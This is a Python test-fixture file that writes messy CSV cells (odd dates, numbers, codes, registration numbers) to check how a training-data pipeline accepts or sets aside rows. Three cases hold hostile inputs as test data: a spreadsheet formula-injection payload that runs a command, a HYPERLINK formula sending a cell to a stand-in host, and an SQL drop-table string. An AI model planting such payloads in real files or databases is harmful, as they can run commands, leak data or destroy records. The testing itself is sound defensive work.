"""Dirt of single cells: dates, numbers, codes, registration numbers."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path

from dirt_kind import Place, dirt
from dirt_people import BORN, GPHC, events, posts, register, spend

DATES = "Dates"
NUMBERS = "Numbers"
CODES = "Codes and choices"
PEOPLE = "Registration numbers and people"

A_DATE = "expected a date such as 2025-11-30"
A_NUMBER = "expected a number such as 1234.5 (decimal point, no thousands separator)"
SET_ASIDE = "1 row taken, 1 set aside"


def one_bad_event(place: Place, column: str, text: str) -> Path:
    """A good event, and one with this cell."""
    return place.write("return.csv", events(place, {}, {column: text}))


def one_bad_post(place: Place, column: str, text: str) -> Path:
    """A good post, and one with this cell."""
    return place.write("posts.csv", posts(place, {}, {column: text}))


def one_bad_amount(place: Place, text: str) -> Path:
    """A good month of spend, and one with this outturn."""
    return place.write("spend.csv", spend(place, {}, {"Outturn GBP": text}))


@dirt(
    DATES,
    "Dates as text, day first",
    "accepted",
    "accepted",
    "2 rows taken",
    raw={"event_date": date(2025, 10, 1)},
)
def day_first(place: Place) -> Path:
    return place.write(
        "return.csv", events(place, {"Event date": "01/10/2025"}, {"Event date": "1 Oct 2025"})
    )


@dirt(
    DATES,
    "Month first (US order), plain from one date past the 12th",
    "accepted_with_quarantine",
    "rows_set_aside",
    "1 row taken, 2 set aside",
    "line 3, column 'Event date': found a date with the month first; expected the day first, or as 2025-11-30",
    "line 4, column 'Event date': found a date that may have the month first, as line 3 has; "
    "expected the day first, or as 2025-11-30",
)
def month_first(place: Place) -> Path:
    days = ("2025-10-01", "10/31/2025", "10/02/2025")
    return place.write("return.csv", events(place, *({"Event date": day} for day in days)))


@dirt(
    DATES,
    "Month first and day first in one column",
    "accepted_with_quarantine",
    "rows_set_aside",
    "1 row taken, 2 set aside",
    "line 4, column 'Event date': found a date that may have the month first, as line 3 has",
)
def both_orders(place: Place) -> Path:
    days = ("31/10/2025", "10/31/2025", "10/02/2025")
    return place.write("return.csv", events(place, *({"Event date": day} for day in days)))


@dirt(
    DATES,
    "A year of two digits",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"{SET_ASIDE}: column 'Event date', 1 time from line 3: found a value like '99/99/99'; "
    "expected a date from 1900 to 2100",
)
def two_digit_year(place: Place) -> Path:
    return one_bad_event(place, "Event date", "01/10/25")


@dirt(
    DATES,
    "Serial numbers of a spreadsheet where dates are promised",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"column 'Event date', 1 time from line 3: found a value like '99999'; {A_DATE}",
)
def serial_numbers(place: Place) -> Path:
    return one_bad_event(place, "Event date", "45931")


@dirt(
    DATES,
    "A day that does not exist (31/02)",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Event date': found a value like '99/99/9999'; {A_DATE}",
)
def impossible_day(place: Place) -> Path:
    return one_bad_event(place, "Event date", "31/02/2025")


@dirt(
    DATES,
    "A date in words",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Event date': found a value like 'aaaa'; {A_DATE}",
)
def date_in_words(place: Place) -> Path:
    return one_bad_event(place, "Event date", "soon")


@dirt(
    DATES,
    "A year with a digit too many",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Event date': found a value like '99999-99-99'; {A_DATE}",
)
def five_digit_year(place: Place) -> Path:
    return one_bad_event(place, "Event date", "20255-10-01")


@dirt(
    DATES,
    "The first day of a spreadsheet (1900-01-00)",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Event date': found a value like '9999-99-99'; expected a date from 1900 to 2100",
)
def day_zero(place: Place) -> Path:
    return one_bad_event(place, "Event date", "1899-12-31")


@dirt(
    DATES,
    "An event after its own return",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Event date': found a value like '9999-99-99'; expected a date not after the row's "
    "'Return date'",
)
def future_event(place: Place) -> Path:
    return one_bad_event(place, "Event date", "2031-01-01")


@dirt(
    DATES,
    "A return dated after the day it came: it outranks its own correction",
    "accepted",
    "accepted",
    "1 return is dated after the day of receipt (2095-12-05; received ",
    "a correction dated earlier will not replace it",
)
def future_return(place: Place) -> Path:
    return one_bad_event(place, "Return date", "2095-12-05")


@dirt(
    DATES,
    "An event before the birth of the learner",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Event date': found a day before the row's 'Date of birth'; expected a day of that "
    "person's life",
)
def before_birth(place: Place) -> Path:
    return one_bad_event(place, "Event date", "1970-10-01")


@dirt(
    DATES,
    "Dates of birth and of events under each other's header",
    "refused",
    "no_good_row",
    "column 'Event date', 2 times from line 2: found a day before the row's 'Date of birth'",
)
def birth_for_event(place: Place) -> Path:
    swapped = {"Event date": BORN, "Date of birth": "2025-10-01"}
    return place.write("return.csv", events(place, swapped, swapped))


@dirt(
    DATES,
    "A month that is no month",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Return month': found a value like '9999-99'; expected a month such as 2025-11",
)
def thirteenth_month(place: Place) -> Path:
    return one_bad_event(place, "Return month", "2025-13")


@dirt(
    NUMBERS,
    "A thousands sign that may be a decimal comma",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Outturn GBP': found '1,234'; {A_NUMBER}",
    feed="spend",
)
def lone_thousands_sign(place: Place) -> Path:
    return one_bad_amount(place, '"1,234"')


@dirt(
    NUMBERS,
    "Thousands signs and a decimal point, which can be read in one way only",
    "accepted",
    "accepted",
    "1 row taken",
    feed="spend",
    raw={"outturn_gbp": Decimal("1234567.50")},
)
def thousands_signs(place: Place) -> Path:
    return place.write("spend.csv", spend(place, {"Outturn GBP": '"1,234,567.50"'}))


@dirt(
    NUMBERS,
    "A pound sign",
    "accepted",
    "accepted",
    "1 row taken",
    feed="spend",
    raw={"outturn_gbp": Decimal("1234.50")},
)
def pound_sign(place: Place) -> Path:
    return place.write("spend.csv", spend(place, {"Outturn GBP": '"£1,234.50"'}))


@dirt(
    NUMBERS,
    "Another currency",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Outturn GBP': found '€12.50'; {A_NUMBER}",
    feed="spend",
)
def other_currency(place: Place) -> Path:
    return one_bad_amount(place, "€12.50")


@dirt(
    NUMBERS,
    "A negative amount in brackets",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Outturn GBP': found '(12.50)'; {A_NUMBER}",
    feed="spend",
)
def bracketed_negative(place: Place) -> Path:
    return one_bad_amount(place, "(12.50)")


@dirt(
    NUMBERS,
    "Points for thousands and a decimal comma",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Outturn GBP': found '1.234,50'; {A_NUMBER}",
    feed="spend",
)
def continental_number(place: Place) -> Path:
    return one_bad_amount(place, '"1.234,50"')


@dirt(
    NUMBERS,
    "Scientific notation",
    "accepted",
    "accepted",
    "1 row taken",
    feed="spend",
    raw={"outturn_gbp": Decimal("1250.00")},
)
def scientific_notation(place: Place) -> Path:
    return place.write("spend.csv", spend(place, {"Outturn GBP": "1.25E+03"}))


@dirt(
    NUMBERS,
    "A number beyond all bounds",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'Outturn GBP': found '1E+99'; {A_NUMBER}",
    feed="spend",
)
def endless_number(place: Place) -> Path:
    return one_bad_amount(place, "1E+99")


@dirt(
    NUMBERS,
    "A percent sign",
    "accepted_with_quarantine",
    "rows_set_aside",
    f"line 3, column 'FTE': found a value like '99%'; {A_NUMBER}",
    feed="deployment_return",
)
def percent_sign(place: Place) -> Path:
    return one_bad_post(place, "FTE", "50%")


@dirt(
    NUMBERS,
    "Infinity and no number",
    "accepted_with_quarantine",
    "rows_set_aside",
    "1 row taken, 2 set aside",
    f"line 3, column 'FTE': found a value like 'aaa'; {A_NUMBER}",
    feed="deployment_return",
)
def not_a_number(place: Place) -> Path:
    return place.write("posts.csv", posts(place, {}, {"FTE": "inf"}, {"FTE": "NaN"}))


@dirt(
    NUMBERS,
    "FTE above 1: possible, and flagged by the gate",
    "accepted",
    "accepted",
    "2 rows taken",
    feed="deployment_return",
)
def fte_above_one(place: Place) -> Path:
    return one_bad_post(place, "FTE", "1.2")


@dirt(
    NUMBERS,
    "FTE below 0",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'FTE': found a value like '-9.9'; expected at least 0",
    feed="deployment_return",
)
def fte_negative(place: Place) -> Path:
    return one_bad_post(place, "FTE", "-0.5")


@dirt(
    NUMBERS,
    "Hours a week (37.5) where full-time equivalents are promised",
    "accepted",
    "accepted",
    "2 rows have more than 5 in column 'FTE', which looks like hours a week; 1.0 is one full-time post",
    feed="deployment_return",
)
def fte_in_hours(place: Place) -> Path:
    return place.write("posts.csv", posts(place, {"FTE": "37.5"}, {"FTE": "30"}, {"FTE": "1.0"}))


@dirt(
    CODES,
    "Spaces, non-breaking and zero-width spaces around codes",
    "accepted",
    "accepted",
    "1 row taken",
    raw={"pcn_code": "U12345", "sector": "general_practice"},
)
def blanks_around_codes(place: Place) -> Path:
    cells = {"PCN code": "\u00a0U12345\u200b ", "Sector": " General practice\u202f\t"}
    return place.write("return.csv", events(place, cells))


@dirt(
    CODES,
    "Zero-width spaces, soft hyphens and marks of direction inside codes",
    "accepted",
    "accepted",
    "1 row taken",
    raw={"pcn_code": "U12345", "strand": "independent_prescribing"},
)
def invisible_in_codes(place: Place) -> Path:
    cells = {"PCN code": "U12\u200b3\u00ad45\u202c", "Strand": "Independent\u00a0pre\u200dscribing"}
    return place.write("return.csv", events(place, cells))


@dirt(
    CODES,
    "Line breaks and doubled spaces inside a choice",
    "accepted",
    "accepted",
    "1 row taken",
    raw={"strand": "independent_prescribing"},
)
def blanks_in_a_choice(place: Place) -> Path:
    return place.write("return.csv", events(place, {"Strand": '"Independent \n prescribing"'}))


@dirt(
    CODES,
    "Codes in lower case",
    "accepted",
    "accepted",
    "1 row taken",
    raw={"pcn_code": "U12345", "event_type": "enrolled"},
)
def lower_case(place: Place) -> Path:
    return place.write("return.csv", events(place, {"PCN code": "u12345", "Event": "ENROLLED"}))


@dirt(
    CODES,
    "The letter O for the digit 0",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'PCN code': found 'U1O345', with the letter O for the digit 0; "
    "expected text of the form ^U[0-9]{5}$",
)
def letter_for_digit(place: Place) -> Path:
    return one_bad_event(place, "PCN code", "U1O345")


@dirt(
    CODES,
    "A spreadsheet's apostrophe in front of a code",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'PCN code': found a value like ''A99999'; expected text of the form ^U[0-9]{5}$",
)
def apostrophe(place: Place) -> Path:
    return one_bad_event(place, "PCN code", "'U12345")


@dirt(
    CODES,
    "A choice that is not on the list, near one that is",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Strand': found 'Independant prescribing'; expected one of: Portfolio recognition",
)
def misspelt_choice(place: Place) -> Path:
    return one_bad_event(place, "Strand", "Independant prescribing")


@dirt(
    CODES,
    "A choice that is nothing like the list",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Strand': found a value like 'Aaaaaaaa'; expected one of: Portfolio recognition",
)
def unknown_choice(place: Place) -> Path:
    return one_bad_event(place, "Strand", "Juggling")


@dirt(
    CODES,
    "'N/A' written into cells that may be empty",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Module': found a value like 'A/A'; expected one of: Core",
)
def not_applicable(place: Place) -> Path:
    return one_bad_event(place, "Module", "N/A")


@dirt(
    CODES,
    "A required cell left empty",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Event': found no value; expected a value: one of: ",
)
def required_cell_empty(place: Place) -> Path:
    return one_bad_event(place, "Event", "")


@dirt(
    CODES,
    "A formula in a free text cell",
    "accepted",
    "accepted",
    "1 row taken",
    raw={"course_code": "=cmd|' /C calc'!A0"},
)
def formula_injection(place: Place) -> Path:
    return place.write("return.csv", events(place, {"Course code": "=cmd|' /C calc'!A0"}))


@dirt(
    CODES,
    "A formula where a choice is promised",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3, column 'Strand': found '=HYPERLINK(\"http://x.example/?\" & A1)'; expected one of: Portfolio",
    feed="spend",
)
def formula_for_choice(place: Place) -> Path:
    return place.write("spend.csv", spend(place, {}, {"Strand": '"=HYPERLINK(""http://x.example/?"" & A1)"'}))


@dirt(
    CODES,
    "SQL in a cell",
    "accepted",
    "accepted",
    "1 row taken",
    raw={"course_code": "'); drop table problem; --"},
)
def sql_injection(place: Place) -> Path:
    return place.write("return.csv", events(place, {"Course code": "'); drop table problem; --"}))


def register_with_another(place: Place) -> Path:
    """A register in which somebody else has a number that the return gives to the marked person."""
    text = register(
        place, {}, {"GPhC number": "2899901", "Surname": "Otherperson", "Date of birth": "1980-02-02"}
    )
    return place.elsewhere("gphc_register").write("register.csv", text)


@dirt(
    PEOPLE, "A registration number with two digits swapped, nobody's", "accepted", "accepted", "1 row taken"
)
def transposed_number(place: Place) -> Path:
    return place.write("return.csv", events(place, {"GPhC number": "2719383"}))


@dirt(
    PEOPLE,
    "A registration number with two digits swapped, somebody else's",
    "accepted",
    "accepted",
    "1 row carries the registration number of somebody else (neither surname nor date of birth agree with the "
    "register): not gone by",
    before=(register_with_another,),
    alone=False,
)
def number_of_somebody_else(place: Place) -> Path:
    return place.write("return.csv", events(place, {"GPhC number": "2899901"}))


@dirt(PEOPLE, "A registration number with spaces and a zero in front", "accepted", "accepted", "1 row taken")
def padded_number(place: Place) -> Path:
    return place.write("return.csv", events(place, {"GPhC number": " 0271 9833 "}))


@dirt(PEOPLE, "A registration number with a spreadsheet's '.0'", "accepted", "accepted", "1 row taken")
def number_with_fraction(place: Place) -> Path:
    return place.write("return.csv", events(place, {"GPhC number": f"{GPHC}.0"}))


@dirt(
    PEOPLE,
    "Registration numbers in scientific notation, or a digit short",
    "accepted",
    "accepted",
    "2 rows have a number in column 'GPhC number' that is not seven digits: "
    "their people are told by what else is known",
)
def mangled_number(place: Place) -> Path:
    cells = ({"GPhC number": "2.72E+06"}, {"GPhC number": GPHC[:6]}, {})
    return place.write("return.csv", events(place, *cells))


@dirt(
    PEOPLE,
    "Surnames with digits: names and codes under each other's header",
    "refused",
    "no_good_row",
    "column 'Surname', 2 times from line 2: found a value of 7 characters; expected a name, without digits",
)
def code_for_name(place: Place) -> Path:
    swapped = {"Surname": place.code, "Provider code": "Quillmarker"}
    return place.write("return.csv", events(place, swapped, swapped))


@dirt(
    PEOPLE,
    "Names and events under each other's header",
    "refused",
    "no_good_row",
    "column 'Event', 2 times from line 2: found a value like 'Aaaaaaaaaaa'; expected one of: Active, Applied",
)
def name_for_event(place: Place) -> Path:
    swapped = {"Surname": "Enrolled", "Event": "Quillmarker"}
    return place.write("return.csv", events(place, swapped, swapped))


@dirt(
    PEOPLE,
    "A row whose cells have slipped by one column",
    "accepted_with_quarantine",
    "rows_set_aside",
    SET_ASIDE,
    "line 3, column 'Surname': found a value of 7 characters; expected a name, without digits",
)
def slipped_row(place: Place) -> Path:
    good, slipped = events(place, {}, {}).splitlines()[1:]
    cells = slipped.split(",")
    header = events(place, {}).splitlines()[0]
    return place.write("return.csv", "\n".join([header, good, ",".join([*cells[:4], "", *cells[4:-1]])]))


@dirt(
    PEOPLE,
    "The register: one number twice in a snapshot, for two people",
    "accepted_with_quarantine",
    "rows_set_aside",
    "line 3: found the same Snapshot date, GPhC number as line 2 with other values; "
    "expected each of them once",
    feed="gphc_register",
)
def number_of_two_people(place: Place) -> Path:
    cells = (
        {"Snapshot date": "2024-03-31"},
        {"Snapshot date": "2024-03-31", "GPhC number": GPHC, "Forename": "Zedmarker-two"},
    )
    return place.write("register.csv", register(place, *cells))


@dirt(
    CODES,
    "A deferral coded as a withdrawal: only later returns can show it, so the row is taken",
    "accepted",
    "accepted",
    "2 rows taken",
    raw={"event_type": "enrolled"},
)
def deferral_as_withdrawal(place: Place) -> Path:
    left = {"Event": "Withdrawn", "Event date": "2025-11-01", "Reason": "deferred to next intake"}
    return place.write("return.csv", events(place, {}, left))


@dirt(
    DATES,
    "Events out of order (passed before enrolled): each row is possible, so they are taken",
    "accepted",
    "accepted",
    "2 rows taken",
)
def out_of_order(place: Place) -> Path:
    same = {"Learner ID": "LMK77000X"}
    passed = {**same, "Event": "Passed", "Event date": "2025-01-10"}
    return place.write("return.csv", events(place, {**same, "Event date": "2025-10-01"}, passed))


@dirt(
    CODES,
    "A network nobody knows: which networks there are is another feed's, so the row is taken",
    "accepted",
    "accepted",
    "1 row taken",
    feed="deployment_return",
)
def unknown_network(place: Place) -> Path:
    return place.write("posts.csv", posts(place, {"PCN code": "U99999"}))


@dirt(
    CODES,
    "A network closed before the month: judged by the list as it was, in the build; taken",
    "accepted",
    "accepted",
    "1 row taken",
    feed="deployment_return",
)
def closed_network(place: Place) -> Path:
    return place.write("posts.csv", posts(place, {"PCN code": "U00001"}))


@dirt(DATES, "A return for a month after the day it was sent", "accepted", "accepted", "1 row taken")
def wrong_month_of_return(place: Place) -> Path:
    return place.write("return.csv", events(place, {"Return month": "2026-02"}))
